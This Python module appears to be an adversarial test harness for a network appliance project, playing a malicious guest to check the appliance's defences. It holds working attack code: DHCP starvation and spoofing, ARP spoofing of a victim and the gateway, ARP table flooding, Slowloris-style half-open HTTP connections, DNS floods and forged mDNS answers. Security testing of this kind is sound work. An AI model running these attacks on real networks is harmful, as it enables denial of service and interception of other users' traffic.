"""A guest in bad faith: run in the guest's network namespace like guest.py, prints one JSON value of what it got.

What stops it is in docs/security.md. Nothing here waits to be stopped: each attack sends a fixed number of things.
"""

import concurrent.futures
import contextlib
import ipaddress
import json
import os
import resource
import select
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterable
from typing import Any

from clic.checks import frames
from clic.checks.frames import Link
from clic.checks.guest import address as own_address
from clic.checks.guest import interface

# Seconds in which the box answers what it answers at all, on an emulated processor.
PATIENCE = 4.0


def whole(packet: bytes) -> list[bytes]:
    return [packet]


def ask(link: Link, who: Iterable[tuple[bytes, dict[int, bytes]]], relay: str = "0.0.0.0",
        cut: Callable[[bytes], list[bytes]] = whole) -> list[str]:
    """Asks for an address for each of these, by hardware address and options: those that it was given."""
    asking = dict(enumerate(who, int.from_bytes(os.urandom(3), "big")))
    for number, (hardware, options) in asking.items():
        for piece in cut(frames.dhcp(frames.DISCOVER, number, hardware, options, relay)):
            link.send(piece)
    given, wanted = [], set(asking)
    for frame in link.receive(PATIENCE):
        answer = frames.dhcp_answer(frame)
        if not answer or answer[1] not in asking:
            continue
        kind, number, address, server = answer
        if kind == frames.OFFER and number in wanted:
            wanted.remove(number)
            hardware, options = asking[number]
            more = options | {frames.WANTED: frames.packed(address), frames.SERVER: server}
            for piece in cut(frames.dhcp(frames.DHCP_REQUEST, number, hardware, more, relay)):
                link.send(piece)
        elif kind == frames.ACK:
            given.append(address)
            if len(given) == len(asking):
                break
    return given


def join(name: str = "") -> list[str]:
    """One address, honestly, and set; with a name, if it has one."""
    link = Link(interface())
    given = ask(link, [(link.hardware, {frames.NAME: name.encode()} if name else {})])
    for address in given:
        subprocess.run(["ip", "address", "replace", f"{address}/16", "dev", interface()], check=True)
    return given


def starve(count: str) -> int:
    """Addresses in the names of stations that do not exist: how many."""
    return len(ask(Link(interface()), [(frames.made_up(), {}) for _ in range(int(count))]))


def starve_in_pieces(mine: str, box: str, count: str) -> int:
    """The same, where nobody sees who asks before the pieces are together."""
    identities: list[tuple[bytes, dict[int, bytes]]] = [(frames.made_up(), {}) for _ in range(int(count))]
    return len(ask(Link(interface()), identities, cut=lambda packet: frames.pieces(packet, mine, box)))


def double(count: str) -> int:
    """Addresses for one station that calls itself otherwise each time (option 61): how many."""
    link, given = Link(interface()), set()
    for _ in range(int(count)):
        given.update(ask(link, [(link.hardware, {frames.IDENTIFIER: b"\0" + os.urandom(8)})]))
    return len(given)


def give_back(box: str) -> list[str]:
    """Takes an address and gives it back, to go on with it when it is somebody else's: in both orders that options can have."""
    link = Link(interface())
    given = ask(link, [(link.hardware, {})])
    for address in given:
        options = {frames.WANTED: frames.packed(address), frames.SERVER: frames.packed(box)}
        link.send(frames.dhcp(frames.DECLINE, 1, link.hardware, options))
        link.send(frames.dhcp(frames.DECLINE, 1, link.hardware, options, last=True))
    return given


def relay(router: str) -> int:
    """Addresses as from another network: how many answers come."""
    link = Link(interface())
    return len(ask(link, [(link.hardware, {})], router))


def each_address(what: str, addresses: list[str], rest: str) -> None:
    """In one go: an emulated processor takes long to start a program."""
    lines = "".join(f"address {what} {one}/{rest}\n" for one in addresses)
    subprocess.run(["ip", "-batch", "-"], input=lines, text=True, check=True)


def hold_from(box: str, network: str, addresses: str, each: str) -> int:
    """Half a request on each of many connections, from its own address and from more that it gives itself: how many it gets."""
    name, inside = interface(), ipaddress.ip_network(network, strict=False)
    mine = [str(inside.broadcast_address - 1000 - number) for number in range(int(addresses))]
    given = own_address()
    each_address("add", mine, f"{inside.prefixlen} dev {name}")
    poll, tried = select.poll(), {}
    try:
        for one in [given, *mine] * int(each):
            connection = socket.socket()
            connection.setblocking(False)
            connection.bind((one, 0))
            with contextlib.suppress(OSError):
                connection.connect((box, 80))
            tried[connection.fileno()] = connection
            poll.register(connection, select.POLLOUT)
        held, end = 0, time.monotonic() + PATIENCE
        while time.monotonic() < end:
            for number, _ in poll.poll(500):
                poll.unregister(number)
                with contextlib.suppress(OSError):
                    tried[number].send(b"GET / HTTP/1.1\r\nHost: ")
                    held += 1
        return held
    finally:
        for connection in tried.values():
            connection.close()
        each_address("delete", mine, f"{inside.prefixlen} dev {name}")


def claim(victim: str, box: str, times: str) -> int:
    """Says that another guest's address, and the box's, are at its own station: by itself, and as if it had been asked."""
    link = Link(interface())
    for _ in range(int(times)):
        for address in (victim, box):
            link.send(frames.arp(frames.REPLY, link.hardware, address, box), frames.ARP)
            link.send(frames.arp(frames.REQUEST, link.hardware, address, box), frames.ARP)
            link.send(frames.arp(frames.REQUEST, frames.made_up(), address, box), frames.ARP)
            link.send(frames.tagged(frames.ARP) + frames.arp(frames.REQUEST, link.hardware, address, box), frames.VLAN)
        time.sleep(0.2)
    return int(times)


def call(box: str, network: str, count: str) -> int:
    """Asks for the box's hardware address from as many addresses, for each of which the box would remember a neighbour."""
    link, first = Link(interface()), ipaddress.ip_network(network, strict=False).network_address + 2000
    for number in range(int(count)):
        link.send(frames.arp(frames.REQUEST, link.hardware, str(first + number), box), frames.ARP)
    return int(count)


def question(box: str, port: str, count: str) -> int:
    """Questions for names, each from a port of its own, for each of which the box would remember a connection."""
    data = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
    for number in range(int(count)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.connect((box, int(port)))
            one.send(data)
        # No faster than an emulated processor can take notice of others.
        if number % 20 == 0:
            time.sleep(0.02)
    return int(count)


def answer_unasked(box: str) -> int:
    """Says by multicast's port that a name is its own, as the box would have to believe; and then asks, as it may."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((box, 5353))
        for _ in range(5):
            one.send(b"\0\0\x84\0\0\0\0\1\0\0\0\0\4clic\5local\0\0\1\x80\1\0\0\0\x78\0\4\x0a\x2a\x42\x42")
        one.send(b"\0\0\0\0\0\1\0\0\0\0\0\0\4clic\5local\0\0\1\0\1")
    return 5


def overhear(seconds: str) -> list[str]:
    """From which stations frames come to it, such as what they ask everybody."""
    link = Link(interface())
    print("true", flush=True)
    return sorted({frame[6:12].hex(":") for frame in link.receive(float(seconds))})


def all_at_once(box: str, network: str, victim: str) -> dict[str, Any]:
    """All of it."""
    print("true", flush=True)
    attacks = {
        "addresses": lambda: starve("300"),
        "connections": lambda: hold_from(box, network, "20", "10"),
        "claims": lambda: claim(victim, box, "40"),
        "calls": lambda: call(box, network, "3000"),
        "questions": lambda: question(box, "53", "2000"),
    }
    with concurrent.futures.ThreadPoolExecutor(len(attacks)) as pool:
        running = {name: pool.submit(attack) for name, attack in attacks.items()}
    return {name: one.result() for name, one in running.items()}


ACTIONS = {
    action.__name__: action
    for action in (
        join, starve, starve_in_pieces, double, give_back, relay, hold_from, claim, call, question, answer_unasked, overhear,
        all_at_once
    )
}


def main(words: list[str]) -> None:
    # Half requests by the thousand: more than a program usually has open.
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    print(json.dumps(ACTIONS[words[0]](*words[1:])))


if __name__ == "__main__":
    main(sys.argv[1:])
